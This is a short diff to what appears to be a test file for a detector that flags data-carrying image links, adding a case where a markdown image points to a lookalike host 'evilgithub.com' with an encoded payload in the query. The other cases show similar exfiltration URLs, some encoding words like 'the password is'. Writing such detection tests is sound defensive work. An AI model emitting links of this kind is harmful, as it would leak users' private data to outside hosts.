@@ -14,6 +14,10 @@ LONG = "QmFzZTY0" * 12
     [
         (f"![](https://a.example/p.png?d={LONG})", "image_carries_data"),
         (f"<img src='https://a.example/p?x={LONG}'>", "image_carries_data"),
+        (
+            f"![a name that only ends like a trusted one](https://evilgithub.com/p.png?d={LONG})",
+            "image_carries_data",
+        ),
         ("![x](https://a.example/?q=the%20user%20asked%20about%20taxes)", "image_carries_data"),
         ("![](https://a.example/?d=dGhlIHBhc3N3b3JkIGlz)", "image_carries_data"),
         ("![](https://a.example/p/c2stbGl2ZS1hYmNkZWY.png)", "image_carries_data"),
